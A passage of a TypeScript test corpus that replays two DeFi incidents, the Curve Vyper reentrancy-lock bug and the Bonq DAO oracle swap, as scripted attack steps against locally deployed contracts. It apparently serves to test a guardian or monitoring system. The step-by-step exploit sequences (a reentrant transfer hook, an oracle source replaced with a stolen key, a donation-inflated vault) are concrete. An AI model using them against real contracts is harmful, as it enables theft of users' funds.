    };
  },
};

const brokenLock: AttackCase = {
  id: "broken-reentrancy-lock",
  klass: "broken reentrancy lock (cross-function)",
  incident: { name: "Curve pools (Vyper 0.2.15-0.3.0 lock bug)", date: "2023-07-30", loss: "~$70M", txs: "one per pool, several pools", span: "hours" },
  async build(chain) {
    const bank = await chain.deploy(new CorpusBank__factory(chain.account(0)).deploy(await guardianAddress(chain), 2));
    const a = await addr(bank);
    for (const i of [2, 3, 4, 5]) await chain.setup(bank.connect(chain.account(i)).deposit({ value: parseEther("25") }));
    const { exploit, deploy } = await exploitOf(chain, [a]);
    const attackerEoa = await chain.account(ATTACKER).getAddress();
    const ten = parseEther("10");
    const round = (): Step[] => [
      {
        label: "withdraw; move the not-yet-cleared balance out through transferBalance",
        loss: true,
        send: async () => [
          await hashOf(exploit.setHook([call(a, bank.interface.encodeFunctionData("transferBalance", [attackerEoa, ten]))], 1, GAS)),
          await hashOf(exploit.run([call(a, bank.interface.encodeFunctionData("deposit"), ten), call(a, bank.interface.encodeFunctionData("withdraw"))], { ...GAS, value: ten })),
        ],
      },
      { label: "withdraw the moved balance", loss: true, send: async () => [await hashOf(bank.connect(chain.account(ATTACKER)).withdraw(GAS))] },
    ];
    const contracts: CorpusContract[] = [{ name: "bank", address: a, abi: "CorpusBank", pausable: true }];
    return { contracts, yaml: corpusConfig(chain, contracts).yaml, steps: [deploy, ...Array.from({ length: 8 }, round).flat()], held: () => ethHeld(chain, a) };
  },
};

const oracleSwap: AttackCase = {
  id: "oracle-source-change",
  klass: "oracle source replaced (compromised owner key)",
  incident: { name: "Bonq DAO (price set by the attacker)", date: "2023-02-01", loss: "~$120M", txs: "2 (price, then borrow)", span: "minutes" },
  async build(chain) {
    const { c, ca, lender, l } = await ammLender(chain);
    await chain.setup(lender.transferOwnership(await chain.account(8).getAddress()));
    const key = chain.account(8);
    const me = await chain.account(ATTACKER).getAddress();
    // The attacker's price source: a share vault it alone holds, priced at 1000 after a donation.
    const vault = await chain.deploy(new CorpusShareVault__factory(chain.account(ATTACKER)).deploy(me, ca));
    await chain.setup(c.mint(me, parseEther("1100")));
    await chain.setup(c.connect(chain.account(ATTACKER)).approve(await vault.getAddress(), MaxUint256));
    await chain.setup(vault.connect(chain.account(ATTACKER)).deposit(parseEther("1")));
    await chain.setup(c.connect(chain.account(ATTACKER)).transfer(await vault.getAddress(), parseEther("999")));
    await chain.setup(c.connect(chain.account(ATTACKER)).approve(l, MaxUint256));
    const borrow = (): Step => ({ label: "borrow 50 ETH on 1 COL", loss: true, send: async () => [await hashOf(lender.connect(chain.account(ATTACKER)).depositAndBorrow(parseEther("1"), parseEther("50"), GAS))] });
    const contracts: CorpusContract[] = [{ name: "lender", address: l, abi: "CorpusCollateralLender", pausable: true }];
    return {
      contracts,
      yaml: corpusConfig(chain, contracts).yaml,
      steps: [{ label: "setSource(attacker's vault) with the stolen owner key", send: async () => [await hashOf(lender.connect(key).setSource(await vault.getAddress(), GAS))] }, borrow(), borrow()],
      held: () => ethHeld(chain, l),
    };
  },
};

export const attackCases: AttackCase[] = [
  dao,
  crossContract,
  readOnly,
  erc777,
  flashPrice,
  donation,
  unbackedMint,
  takeover,
  upgrade,
  allowance,
  slowSybil,
  keyCompromise,
  governance,
  replay,
  rounding,
  deployFirst,
  oraclePump,
  initializer,
  brokenLock,
  oracleSwap,
];
